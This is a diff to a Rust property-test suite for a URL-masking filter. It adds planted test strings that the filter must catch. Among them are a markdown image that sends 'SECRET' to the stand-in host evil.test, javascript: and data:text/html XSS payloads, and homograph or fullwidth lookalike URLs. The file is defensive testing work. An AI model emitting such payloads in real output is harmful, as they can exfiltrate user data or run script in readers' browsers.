@@ -98,6 +98,16 @@ const FILLER: &[&str] = &[
     "ß",
     "ac",
     "me",
+    "です。",
+    "例えば",
+    "e.g.",
+    "lib.rs",
+    "10:30",
+    "a:b",
+    "//",
+    "https://example.com/ok",
+    "[a](docs/x.md)",
+    "&amp;",
     "sk",
     "c+",
     "12",
@@ -160,6 +170,31 @@ const URL_PLANTS: &[&str] = &[
     "https://user:pw@example.com/x",
     "www.phish.test",
     "evil.test/path",
+    // As a browser or a markdown renderer reads them.
+    "![x](//evil.test/p?d=SECRET)",
+    "https:evil.test/x",
+    "HTTPS:\\\\EVIL.TEST/x",
+    "[a](javascript:alert(1))",
+    "href=\"java&#x09;script:alert(1)\"",
+    "data:text/html;base64,PHNjcmlwdD4=",
+    "src=//evil.test/i.png",
+    "https://\u{435}xample.com/login",
+    "https://пример.рф/",
+    "ｈｔｔｐｓ：／／ｅｖｉｌ．ｔｅｓｔ／ｘ",
+    "https://example.com\u{3002}evil.jp/",
+    "[a](https://example.com\"@evil.test/)",
+    "**www.evil.test**",
+    "詳しくはhttps://evil.testをご覧ください",
+];
+
+/// URL plants without a scheme.
+const URL_BARE: &[&str] = &["www.phish.test", "evil.test/path", "**www.evil.test**"];
+
+/// URL plants whose scheme has no `//` after it.
+const URL_NO_SLASHES: &[&str] = &[
+    "https:evil.test/x",
+    "HTTPS:\\\\EVIL.TEST/x",
+    "data:text/html;base64,PHNjcmlwdD4=",
 ];
 
 /// Whether filler words contain `p` (so seeing `p` is no leak: `acme` in
@@ -408,6 +443,30 @@ proptest! {
     #[test]
     fn urls_never_leak((text, planted) in text_with(URL_PLANTS), cuts in cuts(), finish: bool) {
         check_masking(&*URLS, |t| URLS.check(t), &text, &planted, &cuts, Field::Content, finish)?;
+    }
+
+    #[test]
+    fn urls_after_long_runs_never_leak(
+        run in 1500usize..5000,
+        sep in prop::sample::select(&["", "=", "+", "/", ",", "(", "\"", " "][..]),
+        plant in prop::sample::select(URL_PLANTS),
+        cuts in cuts(),
+        finish: bool,
+    ) {
+        // Hosts without a scheme are looked for at the start of a token; a
+        // scheme glued to the base64 is another scheme (which a browser
+        // would not follow without slashes).
+        prop_assume!(sep == " " || !URL_BARE.contains(&plant));
+        prop_assume!(!["", "+"].contains(&sep) || !URL_NO_SLASHES.contains(&plant));
+        // Unbroken base64 then a URL: a piece boundary of the token may fall
+        // anywhere near it.
+        let b64: String = "QWxhZGRpbjpvcGVuIHNlc2FtZQ".chars().cycle().take(run).collect();
+        let text = format!("x {b64}{sep}{plant} tail");
+        let spread: Vec<usize> = cuts.iter().map(|c| c * 3).collect();
+        check_masking(&*URLS, |t| URLS.check(t), &text, &[plant], &spread, Field::Content, finish)?;
+        prop_assert!(URLS.check(&text).info["total"].as_u64() > Some(0), "{text:?}");
+        let block = UrlFilter::new(["example.com"]).unwrap();
+        check_sprinkled(&block, |t| block.check(t), &text, &[plant], &spread, URL_TOKEN_CAP, finish)?;
     }
 
     #[test]
